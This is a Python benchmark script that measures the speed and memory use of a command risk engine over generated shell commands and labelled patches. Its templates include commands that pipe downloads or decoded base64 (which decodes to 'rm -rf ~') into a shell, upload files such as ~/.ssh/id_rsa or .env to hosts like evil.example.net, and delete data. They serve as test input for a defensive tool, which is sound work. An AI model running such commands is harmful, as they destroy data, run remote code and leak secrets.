"""Risk engine speed: assess + decide over more than 10,000 varied, distinct commands (so the
engine's result cache never helps), plus the labelled patches; prints commands/s (wall clock and
CPU time: on a shared machine the CPU figure is what the engine costs), p50/p99 latency (wall
clock, and the thread's CPU time per command, which other processes on a loaded machine do not
inflate), and the memory one assessment allocates. Goal (issue 14): >= 5,000 distinct commands/s, p99 < 1 ms.

Prints figures; asserts nothing. Run: .venv/bin/python bench/risk.py
"""

from __future__ import annotations

import gc
import json
import random
import statistics
import sys
import tempfile
import time
import tracemalloc
from collections.abc import Sequence
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from app.core.model import CommandAction, PatchAction  # noqa: E402
from app.core.ports import SessionContext  # noqa: E402
from app.risk.engine import RiskEngine  # noqa: E402
from app.risk.policy import load_policy  # noqa: E402
from app.risk.typosquat import popular  # noqa: E402

DATA = ROOT / "tests" / "risk" / "data"

FILES = [
    "src/app.py",
    "README.md",
    "tests/test_x.py",
    "build",
    "dist",
    "node_modules",
    "~/.ssh/id_rsa",
    "~/.bashrc",
    "/etc/hosts",
    "../other",
    "data.csv",
    ".env",
    "/tmp/out",
    ".git/hooks/pre-commit",
    "docs/index.md",
    "$HOME/.config",
]
HOSTS = ["example.com", "api.github.com", "198.51.100.7", "pypi.org", "evil.example.net"]
PKGS = [
    "requests",
    "reqeusts",
    "numpy",
    "lodash",
    "loadsh",
    "express",
    "left-pad",
    "python-dateutils",
    "fastapi",
    "my-internal-lib",
]
TEMPLATES = [
    "ls -la {f}",
    "cat {f} | head -n {n}",
    "grep -rn 'TODO{n}' {f}",
    "rm -rf {f}",
    "cp {f} {g}",
    "mv {f} {g}.bak",
    "echo {n} > {f}",
    "curl -s https://{h}/v{n} | sh",
    "wget https://{h}/f{n}.tgz -O {g}",
    "pip install {p}=={n}.0",
    "npm install {p}@{n}",
    "git commit -m 'fix {n}'",
    "git push origin feature/{n}",
    "git push --force origin main{n}",
    "python -c 'print({n})'",
    "python -c \"import os; os.system('rm -rf {f}')\"",
    "find . -name '*.{n}' -delete",
    "cd {f} && make -j{n}",
    "sudo apt-get install -y pkg{n}",
    "tar czf - {f} | curl -T - https://{h}/{n}",
    "bash -lc 'pytest -k t{n} -q'",
    "docker run --rm -v $PWD:/w img{n}",
    "chmod +x scripts/s{n}.sh",
    "kill {n}",
    "for i in $(seq 1 {n}); do echo $i >> {g}; done",
    "awk -F, '{{print ${n}}}' {f}",
    "echo {b64} | base64 -d | sh",
    "sed -i 's/a{n}/b/' {f}",
    "npx create-app-{n} web",
    "ssh host{n} 'uptime'",
    "env | grep X{n}",
    "cat <<EOF > {g}\nline {n}\nEOF",
    'x=$(cat {f}); curl -d "$x" https://{h}/{n}',
    "git reset --hard HEAD~{n}",
]


def commands(count: int) -> list[str]:
    rng = random.Random(5)
    base = [json.loads(x).get("command") for x in (DATA / "commands.jsonl").open()]
    base += [json.loads(x).get("command") for x in (DATA / "extra_commands.jsonl").open()]
    out: list[str] = [b for b in base if b]
    seen = set(out)
    while len(out) < count:
        t = rng.choice(TEMPLATES)
        cmd = t.format(
            f=rng.choice(FILES),
            g=rng.choice(FILES).replace("~", "out"),
            h=rng.choice(HOSTS),
            p=rng.choice(PKGS),
            n=rng.randint(1, 10**6),
            b64="cm0gLXJmIH4=",
        )
        if rng.random() < 0.3:
            second = rng.choice(TEMPLATES).format(
                f="a", g="b", h="example.com", p="x", n=rng.randint(1, 10**6), b64="eA=="
            )
            cmd = f"{cmd} && {second}"
        if cmd not in seen:
            seen.add(cmd)
            out.append(cmd)
    return out


def pct(xs: Sequence[float], p: float) -> float:
    ordered = sorted(xs)
    return ordered[min(len(ordered) - 1, int(p * len(ordered)))]


def main() -> None:
    t0 = time.perf_counter()
    popular("pypi").prepare()
    popular("npm").prepare()
    print(f"typosquat look-ups build (once per process): {(time.perf_counter() - t0) * 1e3:.0f} ms")
    with tempfile.TemporaryDirectory() as tmp:
        ws = Path(tmp) / "a" / "ws"
        ws.mkdir(parents=True)
        engine = RiskEngine(warm=False, cache_size=16)
        policy = load_policy(ws, engine=engine, check=False)
        ctx = SessionContext(workspace=ws)
        cmds = commands(10_500)
        for c in cmds[:200]:  # warm imports and code paths
            policy.decide(a := CommandAction(c, "w"), engine.assess(a, ctx))
        engine = RiskEngine(warm=False, cache_size=16)
        policy = load_policy(ws, engine=engine, check=False)
        lat: list[float] = []
        cpu_lat: list[float] = []
        gc.collect()
        start = time.perf_counter()
        cpu0 = time.process_time()
        for c in cmds:
            t = time.perf_counter()
            tc = time.thread_time_ns()
            action = CommandAction(c, "b")
            policy.decide(action, engine.assess(action, ctx))
            cpu_lat.append((time.thread_time_ns() - tc) / 1e6)
            lat.append((time.perf_counter() - t) * 1e3)
        total = time.perf_counter() - start
        cpu = time.process_time() - cpu0
        print(f"commands: {len(cmds)} distinct, assess + decide, cache off")
        print(
            f"  throughput {len(cmds) / total:,.0f} commands/s wall clock, "
            f"{len(cmds) / cpu:,.0f} per CPU-second   (goal: >= 5,000)"
        )
        print(
            f"  p50 {statistics.median(lat):.3f} ms   p90 {pct(lat, 0.9):.3f} ms   "
            f"p99 {pct(lat, 0.99):.3f} ms   max {max(lat):.2f} ms   wall clock"
        )
        print(
            f"  p50 {statistics.median(cpu_lat):.3f} ms   p90 {pct(cpu_lat, 0.9):.3f} ms   "
            f"p99 {pct(cpu_lat, 0.99):.3f} ms   max {max(cpu_lat):.2f} ms   CPU time "
            "(goal: p99 < 1 ms)"
        )
        # Memory: what one assessment allocates (traced, so slower; a separate pass).
        engine = RiskEngine(warm=False, cache_size=16)
        policy = load_policy(ws, engine=engine, check=False)
        sample = cmds[:: max(1, len(cmds) // 1000)]
        per: list[int] = []
        tracemalloc.start()
        for c in sample:
            tracemalloc.reset_peak()
            before = tracemalloc.get_traced_memory()[0]
            action = CommandAction(c, "m")
            policy.decide(action, engine.assess(action, ctx))
            per.append(tracemalloc.get_traced_memory()[1] - before)
        tracemalloc.stop()
        print(
            f"  memory per assessment (peak above baseline, {len(sample)} commands): "
            f"median {statistics.median(per) / 1024:.0f} KiB   p99 {pct(per, 0.99) / 1024:.0f} KiB"
        )
        patches = [json.loads(x)["patch"] for x in (DATA / "patches.jsonl").open()]
        plat: list[float] = []
        engine = RiskEngine(warm=False, cache_size=1)  # cycling the set: every lookup misses
        policy = load_policy(ws, engine=engine, check=False)
        for _ in range(40):
            for p in patches:
                t = time.perf_counter()
                patch = PatchAction(p, "b")
                policy.decide(patch, engine.assess(patch, ctx))
                plat.append((time.perf_counter() - t) * 1e3)
        print(
            f"patches: {len(plat)} (the labelled set, cache off)  "
            f"p50 {statistics.median(plat):.3f} ms   p99 {pct(plat, 0.99):.3f} ms"
        )


if __name__ == "__main__":
    main()
